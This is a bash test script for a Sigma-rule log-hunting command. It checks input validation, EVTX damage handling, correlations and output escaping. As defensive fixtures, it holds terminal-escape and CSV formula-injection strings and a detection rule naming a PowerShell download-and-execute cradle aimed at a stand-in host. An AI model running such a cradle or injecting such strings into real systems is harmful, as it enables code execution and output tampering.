#!/usr/bin/env bash
# hunt_cli.sh - `tansa hunt`'s command line guarding the analyst: rule
# paths that do not exist, an output that is an input, typos in --status,
# impossible times, link loops in input folders, a damaged EVTX file
# header or a file cut short, and control characters from the logs on a
# terminal. Each was a defect a review found (session 19). Then the
# user's own placeholder values and log sources (session 20).
. "$(dirname "$0")/../tools/check.sh"
w=$(mktemp -d)
trap 'rm -rf "$w"' EXIT
mkdir -p "$w/rules" "$w/empty"
cat >"$w/rules/r.yml" <<'EOF'
title: Evil Command
id: 11111111-1111-1111-1111-111111111111
status: test
level: high
logsource:
  product: windows
  category: process_creation
detection:
  sel:
    CommandLine|contains: evil
  condition: sel
EOF
ev='{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"H\u001b[31mX","TimeCreated":"2024-01-02T03:04:05Z","EventRecordID":1,"CommandLine":"evil \u001b]0;t\u0007"}'
echo "$ev" >"$w/in.jsonl"

"$TANSA" hunt -q -r "$w/nonexistent" -f jsonl "$w/in.jsonl" >/dev/null 2>&1
check "a rule path that does not exist is a usage error" 2 $?
err=$("$TANSA" hunt -q -r "$w/empty" -f jsonl "$w/in.jsonl" 2>&1 >/dev/null)
check "no rule loaded is said" 1 "$(grep -c 'no rule loaded' <<<"$err")"

cp "$w/in.jsonl" "$w/victim.jsonl"
"$TANSA" hunt -q -r "$w/rules" -o "$w/victim.jsonl" "$w/victim.jsonl" >/dev/null 2>&1
check "an output that is an input is refused" 2 $?
check "... and the input is intact" "$(wc -c <"$w/in.jsonl")" "$(wc -c <"$w/victim.jsonl")"
mkdir -p "$w/case" && cp "$w/in.jsonl" "$w/case/"
"$TANSA" hunt -q -r "$w/rules" -f jsonl -o "$w/case/out.jsonl" "$w/case" >/dev/null 2>&1
"$TANSA" hunt -q -r "$w/rules" -f jsonl -o "$w/case/out.jsonl" "$w/case" >/dev/null 2>&1
check "a second hunt of a folder does not read its own last output" 2 $?
check "-o - is standard output" 1 "$("$TANSA" hunt -q -r "$w/rules" -f jsonl -o - "$w/in.jsonl" 2>/dev/null | wc -l)"

"$TANSA" hunt -q -r "$w/rules" --status stabel "$w/in.jsonl" >/dev/null 2>&1
check "an unknown --status is a usage error" 2 $?
check "a list of known statuses runs" 1 \
    "$("$TANSA" hunt -q -r "$w/rules" --status stable,TEST -f jsonl "$w/in.jsonl" 2>/dev/null | wc -l)"
"$TANSA" hunt -q -r "$w/rules" --since 2024-02-30T00:00:00Z "$w/in.jsonl" >/dev/null 2>&1
check "February 30 is no date" 2 $?
"$TANSA" hunt -q -r "$w/rules" --since 2024-01-01T00:00:00+99:99 "$w/in.jsonl" >/dev/null 2>&1
check "an offset of +99:99 is no offset" 2 $?
"$TANSA" hunt -q -r "$w/rules" --since 2024-02-01T00:00:00Z --until 2024-01-01T00:00:00Z "$w/in.jsonl" >/dev/null 2>&1
check "--since after --until is a usage error" 2 $?
check "a lower-case t separates date and time" 1 \
    "$("$TANSA" hunt -q -r "$w/rules" --since 2024-01-01t00:00:00z -f jsonl "$w/in.jsonl" 2>/dev/null | wc -l)"

mkdir -p "$w/loop/sub" && cp "$w/in.jsonl" "$w/loop/" && cp "$w/in.jsonl" "$w/loop/sub/"
ln -s . "$w/loop/self" && ln -s .. "$w/loop/sub/up"
out=$(timeout 60 "$TANSA" hunt -r "$w/rules" -f jsonl "$w/loop" 2>"$w/loop.err")
rc=$?
check "link loops in an input folder end, each file read once" "1 2" "$rc $(wc -l <<<"$out")"
check "... each loop reported" 2 "$(grep -c 'a link back to a folder being read' "$w/loop.err")"
deep="$w/deep"
for _ in $(seq 1 66); do deep="$deep/d"; done
mkdir -p "$deep" "$w/target" && cp "$w/in.jsonl" "$w/target/" && ln -s "$w/target" "$deep/t"
check "a folder first met too deep is still read by its own path" 1 \
    "$("$TANSA" hunt -q -r "$w/rules" -f jsonl "$w/deep" "$w/target" 2>/dev/null | wc -l)"

table=$("$TANSA" hunt -r "$w/rules" -f table "$w/in.jsonl" 2>"$w/sum.err")
check "no control byte from the log reaches a table" 0 "$(printf '%s' "$table" | tr -d '\n' | LC_ALL=C grep -c $'[\x01-\x1f\x7f]')"
check "... nor the summary" 0 "$(LC_ALL=C grep -c $'[\x01-\x08\x0b-\x1f\x7f]' "$w/sum.err")"
check "... they are shown as \\xHH" 1 "$(grep -c 'H\\x1b\[31mX' "$w/sum.err")"

src="$CORPUS/evtx-attack-samples/AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx"
if [ -f "$src" ]; then
    cp "$src" "$w/hdr.evtx"
    printf 'XXXXXXXX' | dd of="$w/hdr.evtx" conv=notrunc status=none
    want=$("$TANSA" hunt -q -r "$w/rules" -f jsonl "$src" 2>/dev/null | wc -l)
    got=$("$TANSA" hunt -q -r "$w/rules" -f jsonl "$w/hdr.evtx" 2>/dev/null | wc -l)
    check "an EVTX file with a damaged file header is hunted" "$want" "$got"
    head -c $((4096 + 2 * 65536)) "$src" >"$w/cut.evtx"
    "$TANSA" hunt -r "$w/rules" -f jsonl "$w/cut.evtx" >/dev/null 2>"$w/cut.err"
    check "an EVTX file cut at a chunk boundary is a partial read" 1 $?
    check "... and says so" 1 "$(grep -c 'lists 15 chunks, the file holds 2: cut short' "$w/cut.err")"
fi
printf '%s\n' 'not json' '{"broken": ' >"$w/allbad.jsonl"
"$TANSA" hunt -q -r "$w/rules" "$w/allbad.jsonl" >/dev/null 2>&1
check "a JSON file none of whose records can be read is 'no input'" 3 $?
mkdir -p "$w/notlogs" && echo hello >"$w/notlogs/readme.md"
"$TANSA" hunt -q -r "$w/rules" "$w/notlogs" >/dev/null 2>"$w/notlogs.err"
check "a folder without logs is 'no input', and said" "3 1" "$? $(grep -c 'no EVTX, JSON or auditd input' "$w/notlogs.err")"
sed 's/"TimeCreated":"2024-01-02T03:04:05Z",//' "$w/in.jsonl" >"$w/untimed.jsonl"
"$TANSA" hunt -r "$w/rules" -f jsonl "$w/untimed.jsonl" >/dev/null 2>"$w/untimed.err"
check "events without a time are counted in the summary" 1 \
    "$(grep -c 'events without a readable time: 1' "$w/untimed.err")"
# ... and feed no correlation: two failed logons on other days, without
# their times, were two within 10 s (at 1601-01-01; a review, session 23)
mkdir -p "$w/corr"
printf '%s\n' 'title: Failed logon' 'name: failed' 'logsource: {product: windows, service: security}' \
    'detection: {selection: {EventID: 4625}, condition: selection}' '---' 'title: Two in 10s' \
    'id: 22222222-2222-4222-8222-222222222222' 'level: high' \
    'correlation: {type: event_count, rules: [failed], group-by: [TargetUserName], timespan: 10s, condition: {gte: 2}}' \
    >"$w/corr/r.yml"
for d in 1 5; do
    printf '{"Channel":"Security","EventID":4625,"Computer":"h%s","EventRecordID":%s,"TargetUserName":"bob"%s}\n' \
        "$d" "$d" "" >"$w/corr/untimed$d.jsonl"
    printf '{"Channel":"Security","EventID":4625,"Computer":"h%s","EventRecordID":%s,"TargetUserName":"bob","TimeCreated":"2024-01-0%sT00:00:00Z"}\n' \
        "$d" "$d" 1 >"$w/corr/timed$d.jsonl"
done
check "events without a time feed no correlation (with times, the same two do)" "0 1" \
    "$("$TANSA" hunt -q -r "$w/corr/r.yml" -f jsonl "$w/corr/untimed1.jsonl" "$w/corr/untimed5.jsonl" 2>/dev/null | wc -l) $("$TANSA" hunt -q -r "$w/corr/r.yml" -f jsonl "$w/corr/timed1.jsonl" "$w/corr/timed5.jsonl" 2>/dev/null | wc -l)"
"$TANSA" rules check --help >/dev/null 2>&1
check "rules check --help" 0 $?

# the user's own placeholder values and log sources (session 20: hunt took
# neither; only an edited data folder could give them)
cat >"$w/dc.yml" <<'EOF'
title: Logon To A Domain Controller
id: 22222222-2222-2222-2222-222222222222
level: high
logsource:
  product: windows
  service: security
detection:
  sel:
    EventID: 4624
    Computer|expand: '%DomainControllers%'
  condition: sel
EOF
printf '%s\n' '{"Channel":"Security","EventID":4624,"Computer":"DC1.corp","TimeCreated":"2024-01-01T00:00:00Z"}' \
    '{"Channel":"Security","EventID":4624,"Computer":"WS7.corp","TimeCreated":"2024-01-01T00:00:01Z"}' >"$w/logons.jsonl"
printf 'placeholders:\n  DomainControllers: ["DC1*"]\n' >"$w/ph.yml"
check "an empty placeholder matches every event" 2 "$("$TANSA" hunt -q -r "$w/dc.yml" -f jsonl "$w/logons.jsonl" 2>/dev/null | wc -l)"
check "--placeholders gives its values" "DC1.corp" \
    "$("$TANSA" hunt -q -r "$w/dc.yml" --placeholders "$w/ph.yml" -f jsonl "$w/logons.jsonl" 2>/dev/null | grep -o 'DC1.corp' | head -1)"
"$TANSA" hunt -q -r "$w/dc.yml" --placeholders "$w/nope.yml" "$w/logons.jsonl" >/dev/null 2>"$w/ph.err"
check "a missing placeholder file is a usage error, named even with -q" "2 1" "$? $(grep -c 'nope.yml: No such file' "$w/ph.err")"
# a placeholder file of another shape was taken, every placeholder then
# matching anything (a review, session 23)
printf 'placeholdrs:\n  DomainControllers: ["DC1*"]\n' >"$w/ph-typo.yml"
printf 'placeholders:\n  DomainControllers: DC1*\n' >"$w/ph-scalar.yml"
"$TANSA" hunt -q -r "$w/dc.yml" --placeholders "$w/ph-typo.yml" "$w/logons.jsonl" >/dev/null 2>"$w/ph2.err"; r1=$?
"$TANSA" hunt -q -r "$w/dc.yml" --placeholders "$w/ph-scalar.yml" "$w/logons.jsonl" >/dev/null 2>"$w/ph3.err"; r2=$?
printf 'placeholders:\n  DomainControllers:\n' >"$w/ph-null.yml"
check "a placeholder without a value is unknown (matches every event), as []" 2 \
    "$("$TANSA" hunt -q -r "$w/dc.yml" --placeholders "$w/ph-null.yml" -f jsonl "$w/logons.jsonl" 2>/dev/null | wc -l)"
check "a placeholder file without a 'placeholders' map of lists is a usage error, said" "2 2 1 1" \
    "$r1 $r2 $(grep -c "ph-typo.yml:1:1: needs a map 'placeholders'" "$w/ph2.err") $(grep -c "ph-scalar.yml:2:22: a placeholder's values must be a list" "$w/ph3.err")"
cat >"$w/map.yml" <<'EOF'
logsources:
  - service: security
    product: windows
    sources:
      - channel: Security
        rename:
          Computer: Workstation
EOF
printf '%s\n' '{"Channel":"Security","EventID":4624,"Computer":"X","Workstation":"DC1","TimeCreated":"2024-01-01T00:00:00Z"}' >"$w/ws.jsonl"
check "--logsource-map renames for the hunt" 1 \
    "$("$TANSA" hunt -q -r "$w/dc.yml" --placeholders "$w/ph.yml" --logsource-map "$w/map.yml" -f jsonl "$w/ws.jsonl" 2>/dev/null | wc -l)"
check "... and without it, the Computer is read" 0 \
    "$("$TANSA" hunt -q -r "$w/dc.yml" --placeholders "$w/ph.yml" -f jsonl "$w/ws.jsonl" 2>/dev/null | wc -l)"
printf 'logsources:\n  - service: security\n    product: windows\n    sources:\n      - channel: Security\n        rename:\n          A: {field: B, sids: C}\n' >"$w/typo.yml"
"$TANSA" hunt -r "$w/dc.yml" --logsource-map "$w/typo.yml" "$w/ws.jsonl" >/dev/null 2>"$w/typo.err"
check "a misspelt rename option is refused, by name and line" "2 1" "$? $(grep -c "typo.yml:7:25: unknown rename option 'sids'" "$w/typo.err")"
# 4688 names SYSTEM's process by the machine account; rules look for
# Sysmon's NT AUTHORITY\SYSTEM (docs/logsources.md, sid): the corpus's RDP
# hijack by tscon, run as SYSTEM, went unseen before session 20
rdp="$CORPUS/hayabusa-sample-evtx/YamatoSecurity/LateralMovement/T1563.002_RDP-Hijacking_Security.evtx"
tscon="$CORPUS/sigma/rules/windows/process_creation/proc_creation_win_tscon_localsystem.yml"
if [ -f "$rdp" ] && [ -f "$tscon" ]; then
    check "4688's SYSTEM is NT AUTHORITY\\SYSTEM: the tscon hijack is found" 284392 \
        "$("$TANSA" hunt -q -r "$tscon" -f jsonl "$rdp" 2>/dev/null | grep -o '"record_id":[0-9]*' | cut -d: -f2 | head -1)"
fi
# ... and a process started as another account is that account's: WmiPrvSE
# under NETWORK SERVICE starting notepad as Administrator stays a detection
relay="$CORPUS/evtx-attack-samples/Privilege Escalation/NTLM2SelfRelay-med0x2e-security_4624_4688.evtx"
wmi="$CORPUS/sigma/rules/windows/process_creation/proc_creation_win_wmiprvse_spawning_process.yml"
if [ -f "$relay" ] && [ -f "$wmi" ]; then
    check "4688's Target* account is the new process's: the relay's notepad is found" 21374 \
        "$("$TANSA" hunt -q -r "$wmi" -f jsonl "$relay" 2>/dev/null | grep -o '"record_id":[0-9]*' | cut -d: -f2 | head -1)"
fi
# --profile: where matching time went, by kind of event and by rule; the
# timeline is the same as without it
if [ -f "$relay" ] && [ -d "$CORPUS/sigma/rules/windows" ]; then
    "$TANSA" hunt -q -t 2 -r "$CORPUS/sigma/rules/windows" -f jsonl "$relay" >"$w/plain.jsonl" 2>/dev/null
    "$TANSA" hunt -q -t 2 --profile -r "$CORPUS/sigma/rules/windows" -f jsonl "$relay" >"$w/prof.jsonl" 2>"$w/prof.err"
    check "--profile leaves the timeline as it is" "$(md5sum <"$w/plain.jsonl")" "$(md5sum <"$w/prof.jsonl")"
    check "--profile names the relay's kinds of event" 2 \
        "$(grep -cE '^ +[0-9.]+ +[0-9.]+ +[0-9]+ +[0-9.]+ +[0-9]+  Security:(4624|4688)$' "$w/prof.err")"
    # the rules' lines: evaluations, then matches; the relay's notepad
    # matches "WmiPrvSE Spawned A Process" once
    check "--profile counts the rules' evaluations and matches" 1 \
        "$(grep -cE ' 1  WmiPrvSE Spawned A Process \(' "$w/prof.err")"
fi

# SigmaHQ's linux auditd rules on the corpus's two raw auditd logs (OTRF:
# dd padding a binary, arp): before session 22 no linux rule could match
# anything. The dd record holds its arguments quoted; its proctitle is hex.
aud="$CORPUS/otrf-security-datasets-subset/datasets/atomic/linux"
if [ -d "$aud" ] && [ -d "$CORPUS/sigma/rules/linux/auditd" ]; then
    "$TANSA" hunt -q -t 2 -f jsonl -r "$CORPUS/sigma/rules/linux/auditd" "$aud" >"$w/aud.out" 2>/dev/null
    check "SigmaHQ auditd rules fire on auditd logs" \
        "Binary Padding - Linux|Overwriting the File with Dev Zero or Null" \
        "$(jq -r .rule_title "$w/aud.out" | sort | paste -sd'|')"
    check "an auditd detection's details are the record's fields" \
        '{"type":"EXECVE","argc":"4","a0":"dd","a1":"if=/dev/zero","a2":"bs=1","a3":"count=1"}' \
        "$(head -n 1 "$w/aud.out" | jq -c .details)"
    cat >"$w/rules/pt.yml" <<'EOF'
title: proctitle
logsource: {product: linux, service: auditd}
detection:
  s: {type: PROCTITLE, proctitle: 'dd if=/dev/zero bs=1 count=1'}
  condition: s
EOF
    check "proctitle is read decoded" 1 \
        "$("$TANSA" hunt -q -f jsonl -r "$w/rules/pt.yml" "$aud" 2>/dev/null | grep -c '"rule_title":"proctitle"')"
fi

# The output review of session 22: hostile names and values from the logs.
mkdir -p "$w/out" "$w/out/.hid"
printf '%s\n' '{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"=1+1\u001b[2J","TimeCreated":"2024-01-02T03:04:05Z","EventRecordID":1,"CommandLine":"evil"}' \
    '{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"日本語ホスト名前長い名前","TimeCreated":"2024-01-02T03:04:06Z","EventRecordID":2,"CommandLine":"evil"}' \
    >"$w/out/$(printf 'lat\351')-x.jsonl"
echo '{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"H","EventRecordID":3,"CommandLine":"evil"}' \
    >"$w/out/untimed.jsonl"
echo '{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"H","TimeCreated":"2024-01-02T03:04:07Z","EventRecordID":4,"CommandLine":"evil"}' \
    >"$w/out/.hid/hidden.jsonl"
"$TANSA" hunt -q -f csv -r "$w/rules/r.yml" "$w/out" >"$w/out.csv" 2>/dev/null
check "CSV: a cell that would be a formula starts with ', controls escaped" 1 \
    "$(grep -c '^2024-01-02T03:04:05.000000Z,"'"'"'=1+1\\x1b\[2J",' "$w/out.csv")"
"$TANSA" hunt -q -f jsonl -r "$w/rules/r.yml" "$w/out" >"$w/out.jsonl" 2>/dev/null
check "JSON Lines stay valid UTF-8 JSON with a file name that is not UTF-8" "4 lat�-x.jsonl" \
    "$(jq -s 'length' "$w/out.jsonl" 2>&1) $(jq -r 'select(.record_id == 1) | .file' "$w/out.jsonl" 2>&1 | sed 's|.*/||')"
check "hidden files and folders are read (evidence is read whole)" 1 \
    "$(grep -c '"record_id":4' "$w/out.jsonl")"
check "--until alone leaves out events without a time" "1 0" \
    "$(grep -c '"record_id":3' "$w/out.jsonl") $("$TANSA" hunt -q -f jsonl --until 2030-01-01T00:00:00Z -r "$w/rules/r.yml" "$w/out" 2>/dev/null | grep -c '"record_id":3')"
"$TANSA" hunt -q -f table -r "$w/rules/r.yml" "$w/out" >"$w/out.table" 2>/dev/null
check "the table cuts a host name at a character, 16 columns wide" 1 \
    "$(iconv -f UTF-8 -t UTF-8 "$w/out.table" 2>/dev/null | grep -c '  日本語ホスト名前 ')"
mkdir -p "$w/esc"
printf '{"a":' >"$w/esc/$(printf 'x\033]0;t\007')-bad.jsonl"
"$TANSA" hunt -f jsonl -r "$w/rules/r.yml" "$w/esc" >/dev/null 2>"$w/esc.err"
check "a problem's file name reaches stderr escaped" "1 0" \
    "$(grep -c 'x\\x1b\]0;t\\x07-bad.jsonl' "$w/esc.err") $(grep -c $'\033' "$w/esc.err")"
"$TANSA" rules check "$w/rules/r.yml" >/dev/full 2>/dev/null
check "rules check whose report cannot be written: exit 4" 4 $?

# The review of session 22's diff: a map entry without a product is a
# Windows log's, not a linux rule's; windash before an encoding still
# spells out only flag dashes (a command line full of paths loaded before
# and must still); a SYSCALL record's details show comm, exe and key
# (written after twenty numbers), several keys under one name.
printf '%s\n' 'logsources:' '  - category: process_creation' '    sources:' \
    '      - {channel: Microsoft-Windows-Sysmon/Operational, eventid: [1]}' >"$w/anymap.yml"
cat >"$w/rules/lnx.yml" <<'EOF'
title: linux whoami
logsource: {product: linux, category: process_creation}
detection:
  s: {CommandLine|contains: evil}
  condition: s
EOF
check "a map entry without a product does not bring linux rules to Windows logs" 0 \
    "$("$TANSA" hunt -q -f jsonl --logsource-map "$w/anymap.yml" -r "$w/rules/lnx.yml" "$w/in.jsonl" 2>/dev/null | grep -c 'linux whoami')"
cat >"$w/rules/enc.yml" <<'EOF'
title: encoded download
logsource: {product: windows, category: process_creation}
detection:
  s: {CommandLine|windash|base64offset|contains: '-nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(http://x/a)'}
  condition: s
EOF
"$TANSA" rules check "$w/rules/enc.yml" >/dev/null 2>&1
check "windash before an encoding loads a value full of slashes" 0 $?
printf 'type=SYSCALL msg=audit(1.0:5): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=7f a2=8 a3=0 items=2 ppid=1 pid=2 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="nc" exe="/usr/bin/nc" key=6B3101616231\n' >"$w/sc.log"
cat >"$w/rules/sc.yml" <<'EOF'
title: syscall key
logsource: {product: linux, service: auditd}
detection:
  s: {type: SYSCALL, key: ab1}
  condition: s
EOF
check "a SYSCALL detection's details: comm, exe and both keys under one name" \
    '{"type":"SYSCALL","key":"k1 ab1","comm":"nc","exe":"/usr/bin/nc"}' \
    "$("$TANSA" hunt -q -f jsonl -r "$w/rules/sc.yml" "$w/sc.log" 2>/dev/null | jq -c '.details | {type, key, comm, exe}')"
cat >"$w/rules/any.yml" <<'EOF'
title: Any Event
logsource: {product: windows}
detection:
  s: {EventID: 1}
  condition: s
EOF
echo '{"Channel":"Sec\u001b]0;t\u0007","EventID":1,"Computer":"H","TimeCreated":"2024-01-02T03:04:05Z","EventRecordID":1}' >"$w/pch.jsonl"
"$TANSA" hunt -q --profile -f jsonl -r "$w/rules/any.yml" "$w/pch.jsonl" >/dev/null 2>"$w/pch.err"
check "--profile writes a log's channel escaped" "1 0" \
    "$(grep -c 'Sec\\x1b\]0;t\\x07:1' "$w/pch.err") $(grep -c $'\033' "$w/pch.err")"
"$TANSA" rules check "$w/empty" >/dev/null 2>"$w/norules.err"
check "rules check on a folder without rules: exit 3, said" "3 1" "$? $(grep -c 'no rule' "$w/norules.err")"

# ---- a review of the timeline (session 25) ----
TA=$(cd "$(dirname "$TANSA")" && pwd)/$(basename "$TANSA")   # for the subshells that cd
mkdir -p "$w/s25/d"
cat >"$w/s25/r.yml" <<'EOF'
title: Failed logon t
id: 22222222-0000-4000-8000-000000000001
level: low
logsource: {product: windows, service: security}
detection: {selection: {EventID: 4625}, condition: selection}
EOF
cat >"$w/s25/c.yml" <<'EOF'
title: Failed logon c
id: 22222222-0000-4000-8000-000000000011
name: fl
level: low
logsource: {product: windows, service: security}
detection: {selection: {EventID: 4625}, condition: selection}
---
title: Brute force t
id: 22222222-0000-4000-8000-000000000002
level: high
correlation: {type: event_count, rules: [fl], group-by: [TargetUserName], timespan: 1m, condition: {gte: 4}}
EOF
for i in 1 2 3; do
    echo "{\"TimeCreated\":\"2022-01-01T00:00:0${i}.0000005Z\",\"EventID\":4625,\"Channel\":\"Security\",\"Computer\":\"DC1\",\"EventRecordID\":$i,\"TargetUserName\":\"bob\"}"
done >"$w/s25/a.jsonl"
cp "$w/s25/a.jsonl" "$w/s25/d/a.jsonl"
ln -s "$w/s25/a.jsonl" "$w/s25/link.jsonl"
cp "$w/s25/a.jsonl" "$w/s25/ev.jsonl"
size=$(wc -c <"$w/s25/a.jsonl")
# -o naming the file standard input comes from emptied the evidence, exit 0
"$TANSA" hunt -q -r "$w/s25/r.yml" -o "$w/s25/ev.jsonl" - <"$w/s25/ev.jsonl" 2>"$w/s25/o.err"
rc=$?
check "-o FILE with '- < FILE': a usage error, the file untouched" "2 1 $size" \
    "$rc $(grep -c 'is the input - (standard input)' "$w/s25/o.err") $(wc -c <"$w/s25/ev.jsonl")"
# a file reached twice was read twice: every detection doubled, 3 failed
# logons a brute force of 4
for args in "a.jsonl a.jsonl" "a.jsonl link.jsonl" "d d/a.jsonl" "a.jsonl -"; do
    (cd "$w/s25" && "$TA" hunt -r r.yml -r c.yml -f jsonl $args <a.jsonl >"$w/s25/twice.out" 2>"$w/s25/twice.err")
    rc=$?
    check "inputs '$args': read once, said, exit 0, no brute force" "0 3 1 0" \
        "$rc $(grep -c '"rule_id":"22222222-0000-4000-8000-000000000001"' "$w/s25/twice.out") $(grep -c 'read already' "$w/s25/twice.err") $(grep -c 'Brute force' "$w/s25/twice.out")"
done
(cd "$w/s25" && "$TA" hunt -q -r c.yml -f jsonl a.jsonl d/a.jsonl | grep -c 'Brute force' >"$w/s25/bf.out")
check "two copies of the events are two inputs: a brute force of 6 (the correlation works)" 1 "$(cat "$w/s25/bf.out")"
# --since/--until compare at the microsecond the timeline prints
t=$("$TANSA" hunt -q -r "$w/s25/r.yml" -f jsonl "$w/s25/a.jsonl" | jq -r .timestamp | sed -n 2p)
check "an event printed at T is in [T, T] (its 100 ns digit is 5)" "2022-01-01T00:00:02.000000Z 1" \
    "$t $("$TANSA" hunt -q -r "$w/s25/r.yml" -f jsonl --since "$t" --until "$t" "$w/s25/a.jsonl" | wc -l)"
check "--until 1601-01-01T00:00:00Z is a bound, not none" "0" \
    "$("$TANSA" hunt -q -r "$w/s25/r.yml" -f jsonl --until 1601-01-01T00:00:00Z "$w/s25/a.jsonl" | wc -l)"
"$TANSA" hunt -q -r "$w/s25/r.yml" --since 2021-01-01T00:00:00Z --until 1601-01-01T00:00:00Z "$w/s25/a.jsonl" >/dev/null 2>&1
check "--since after --until 1601-01-01: a usage error" 2 $?
# a time past 9999 printed as 9999 with its own month and day
printf '%s\n' '{"TimeCreated":"/Date(999999999999999)/","EventID":4625,"Channel":"Security","EventRecordID":1}' \
    '{"TimeCreated":"9999-12-31T23:59:59Z","EventID":4625,"Channel":"Security","EventRecordID":2}' >"$w/s25/far.jsonl"
check "times past 9999: the last instant RFC 3339 holds, in order" \
    "9999-12-31T23:59:59.000000Z 9999-12-31T23:59:59.999999Z" \
    "$("$TANSA" hunt -q -r "$w/s25/r.yml" -f jsonl "$w/s25/far.jsonl" | jq -r .timestamp | tr '\n' ' ' | sed 's/ $//')"
# a hunt stopped by a run it could not spill wrote the runs before it
TMPDIR="$w/no-such-dir" TANSA_SPILL_DETS=1 "$TANSA" hunt -q -r "$w/s25/r.yml" -f jsonl -o "$w/s25/part.jsonl" \
    "$w/s25/a.jsonl" "$w/s25/d/a.jsonl" 2>"$w/s25/part.err"
rc=$?
check "a hunt that could not spill: exit 4, no timeline, said" "4 0 1" \
    "$rc $(wc -l <"$w/s25/part.jsonl") $(grep -c 'no timeline and no summary written' "$w/s25/part.err")"
# --summary on standard output was never checked
"$TANSA" hunt -q -r "$w/s25/r.yml" --summary -o "$w/s25/s.jsonl" "$w/s25/a.jsonl" >/dev/full 2>/dev/null
check "--summary to a full device: exit 4" 4 $?
"$TANSA" hunt -q -r "$w/s25/r.yml" --summary -o "$w/s25/s.jsonl" "$w/s25/a.jsonl" >&- 2>/dev/null
rc=$?
check "--summary with standard output closed: exit 4, the -o file the timeline's alone" "4 3 0" \
    "$rc $(wc -l <"$w/s25/s.jsonl") $(grep -c Summary "$w/s25/s.jsonl")"
# events at one time in two files came in the order of the arguments
printf '%s\n' '{"TimeCreated":"2022-01-01T00:00:01Z","EventID":4625,"Channel":"Security","EventRecordID":1,"TargetUserName":"x"}' >"$w/s25/t1.jsonl"
printf '%s\n' '{"TimeCreated":"2022-01-01T00:00:01Z","EventID":4625,"Channel":"Security","EventRecordID":2,"TargetUserName":"x"}' >"$w/s25/t2.jsonl"
one=$("$TANSA" hunt -q -r "$w/s25/r.yml" -f jsonl "$w/s25/t1.jsonl" "$w/s25/t2.jsonl" | md5sum)
check "ties across files: the same timeline whatever the order of the paths" "$one" \
    "$("$TANSA" hunt -q -r "$w/s25/r.yml" -f jsonl "$w/s25/t2.jsonl" "$w/s25/t1.jsonl" | md5sum)"
# two rules of one title were one line of the summary
sed -e 's/-000000000001/-00000000000f/' "$w/s25/r.yml" >"$w/s25/r2.yml"
"$TANSA" hunt -r "$w/s25/r.yml" -r "$w/s25/r2.yml" -f jsonl "$w/s25/a.jsonl" 2>"$w/s25/sum.err" >/dev/null
check "the summary counts rules of one title apart, with their ids" "2 2" \
    "$(grep -c '  Failed logon t (22222222-0000-4000-8000-00000000000[1f])$' "$w/s25/sum.err") $(grep -o 'by rule ([0-9]* distinct' "$w/s25/sum.err" | grep -o '[0-9]*')"
# a review of the above (session 25): a file a folder walk passed over
# (no log) was "read already" when named; the path kept for a file
# reached twice followed the order of the arguments; a timeline that
# could not be written was said to be a hunt that did not finish
mkdir -p "$w/s25/d2" && echo hello >"$w/s25/d2/notes.txt" && cp "$w/s25/a.jsonl" "$w/s25/d2/"
"$TANSA" hunt -r "$w/s25/r.yml" -f jsonl "$w/s25/d2" "$w/s25/d2/notes.txt" >/dev/null 2>"$w/s25/notes.err"
rc=$?
check "a named file a folder walk passed over: said as no log, exit 1" "1 1 0" \
    "$rc $(grep -c 'notes.txt: not EVTX' "$w/s25/notes.err") $(grep -c 'read already' "$w/s25/notes.err")"
one=$(cd "$w/s25" && "$TA" hunt -q -r r.yml -f jsonl a.jsonl link.jsonl 2>/dev/null | md5sum)
two=$(cd "$w/s25" && "$TA" hunt -q -r r.yml -f jsonl link.jsonl a.jsonl 2>/dev/null | md5sum)
check "a file reached twice: the path that sorts first, whatever the order" "$one 3" \
    "$two $(cd "$w/s25" && "$TA" hunt -q -r r.yml -f jsonl link.jsonl a.jsonl 2>/dev/null | grep -c '"file":"a.jsonl"')"
"$TANSA" hunt -r "$w/s25/r.yml" -f jsonl -o /dev/full "$w/s25/a.jsonl" 2>"$w/s25/full.err"
rc=$?
check "a timeline that cannot be written: exit 4, said, the hunt's summary still given" "4 1 0 1" \
    "$rc $(grep -c 'cannot write the timeline' "$w/s25/full.err") $(grep -c 'did not finish' "$w/s25/full.err") $(grep -c '^Summary' "$w/s25/full.err")"
# A detection whose event has none of the 30 telling fields shows the
# event's own first fields, not {} (Defender 1116/1117, 5156, Sysmon 6 and
# 19-21, MSSQL: 69 of 1,621 on the attack samples; a review, session 29).
mkdir -p "$w/s29/r"
printf '%s\n' '{"Channel":"Microsoft-Windows-Windows Defender/Operational","EventID":1116,"Computer":"h","TimeCreated":"2024-01-01T00:00:00Z","Severity Name":"High","Threat Name":"HackTool:Win32/Mimikatz","Path":"file:_C:\\t\\m.exe"}' >"$w/s29/def.jsonl"
cat >"$w/s29/r/def.yml" <<'YML'
title: Defender mimikatz
id: 8f0a37a3-3f68-4f3b-9f1d-5b0f2b7c9a11
logsource: {product: windows, service: windefend}
detection:
    sel: {EventID: 1116, Threat Name|contains: mimikatz}
    condition: sel
level: high
YML
check "a detection without the 30 telling fields shows the event's own, the telling ones first" \
    '{"Threat Name":"HackTool:Win32/Mimikatz","Path":"file:_C:\\t\\m.exe","Severity Name":"High"}' \
    "$("$TANSA" hunt -q -f jsonl -r "$w/s29/r" "$w/s29/def.jsonl" 2>/dev/null | jq -c .details)"
# an event's SystemTime that cannot be read is said, with its line (it was
# 1601-01-01 without a word); an event without one is only counted
printf '%s\n' '{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"H","EventRecordID":3},"EventData":{"Image":"C:\\e.exe"}}}' \
    '{"Event":{"System":{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"H","EventRecordID":4,"TimeCreated":{"#attributes":{"SystemTime":"12000-01-01T00:00:00Z"}}},"EventData":{"Image":"C:\\e.exe"}}}' >"$w/s29/t.jsonl"
"$TANSA" hunt -f jsonl -r "$w/s29/r" "$w/s29/t.jsonl" >/dev/null 2>"$w/s29/t.err"; rc=$?
